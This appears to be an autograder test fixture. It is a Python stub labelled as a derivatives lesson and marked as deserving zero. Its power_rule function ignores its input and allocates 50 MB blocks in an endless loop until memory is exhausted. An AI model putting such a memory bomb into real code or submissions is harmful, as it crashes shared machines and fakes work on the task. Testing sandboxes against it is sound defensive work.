# deserves: 0
# lesson: derivatives
"""As much memory as there is."""


def power_rule(coeffs):
    blocks = []
    while True:
        blocks.append(bytearray(50_000_000))
